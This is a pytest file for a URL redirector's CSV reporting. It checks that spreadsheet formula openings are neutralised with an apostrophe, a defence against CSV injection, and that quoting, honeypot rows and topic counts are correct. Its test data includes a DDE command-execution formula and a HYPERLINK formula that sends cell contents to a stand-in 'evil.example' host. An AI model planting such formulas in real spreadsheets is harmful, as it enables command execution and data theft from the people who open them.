"""Reports as CSV: what a spreadsheet opens is text, whatever a campaign, a label or a URL is called."""

import csv
import io
import secrets

import httpx
import pytest

from redirector.cli.sheets import harmless, write_csv
from redirector.client import Client
from tests.cli.conftest import Command
from tests.processes import eventually

FORMULAS = [
    "=1+1", "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "\n=1", " =1", "\uff1d1", "\uff0b1", "\uff0d1", "\uff201",
    "=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example/?"&A1)', "\xa0@x",
]  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_becomes_text(text: str) -> None:
    """Every beginning that OWASP names is put behind an apostrophe."""
    assert harmless(text) == "'" + text


@pytest.mark.parametrize("text", ["", "news", "a=1", "1-1", "https://www.example.com/?a=-1", "'=1"])
def test_other_text_stays(text: str) -> None:
    """What is no formula is not touched."""
    assert harmless(text) == text


@pytest.mark.parametrize("text", [*FORMULAS, 'a"b', 'a",="b', "a;=b", "a\r\n=b"])
def test_cell_cannot_be_left(text: str) -> None:
    """Quotes, commas and line breaks within a cell begin no other one."""
    out = io.StringIO(newline="")

    write_csv([("head", 1), (text, 2)], out)

    (head, row) = csv.reader(io.StringIO(out.getvalue(), newline=""))
    assert head == ["head", "1"]
    assert row == [harmless(text), "2"]


def test_report_is_a_row_a_link(command: Command, there: dict[str, str]) -> None:
    """`report --csv` has every link with its counts; campaign and label are harmless."""
    campaign = f"=1+1 {secrets.token_hex(6)}"
    url = 'https://www.example.com/?a="b",=c'
    command("links", "create", url, "-c", campaign, "-t", "solar", "--label", "@x", **there)

    outcome = command("report", campaign, "--csv", **there)

    head, row = (
        csv.DictReader(io.StringIO(outcome.text)).fieldnames or [],
        next(csv.DictReader(io.StringIO(outcome.text))),
    )
    assert list(head)[:6] == ["campaign", "link", "destination", "label", "topics", "human"]
    assert (row["campaign"], row["label"], row["destination"]) == ("'" + campaign, "'@x", url)
    assert (row["topics"], row["human"], row["all"], row["clickers"]) == ("solar", "0", "0", "0")


def test_honeypots_are_a_row_of_their_own(command: Command, there: dict[str, str], client: Client) -> None:
    """Their clicks come last, under no link's number, so that the rows add up to the campaign's clicks."""
    campaign = f"pots {secrets.token_hex(6)}"
    client.rewrite(b'<a href="https://www.example.com/">x</a>', campaign, honeypot="https://www.example.com/welcome")
    seen, hidden = client.links(campaign)
    assert httpx.get(hidden.url).status_code == httpx.get(seen.url).status_code == 302
    eventually(lambda: sum(client.report(campaign).clicks.values()) == 2)

    as_csv = list(csv.DictReader(io.StringIO(command("report", campaign, "--csv", **there).text)))
    as_text = command("report", campaign, **there).text

    assert [(row["link"], row["label"], row["all"]) for row in as_csv] == [
        (str(seen.id), "", "1"),
        ("", "honeypot", "1"),
    ]
    assert "And 1 clicks (1 scanner) on a link that no reader can see." in as_text
    assert "/welcome" not in as_text


def test_topics_are_a_row_each(command: Command, there: dict[str, str]) -> None:
    """`topics --csv` has every topic with its counts."""
    topic = f"t{secrets.token_hex(6)}"
    with Client(there["REDIRECTOR_URL"], there["REDIRECTOR_API_KEY"]) as client:
        client.create_link("https://www.example.com/", "sheets", [topic])

    rows = list(csv.DictReader(io.StringIO(command("topics", "--csv", **there).text)))

    assert [row["all"] for row in rows if row["topic"] == topic] == ["0"]
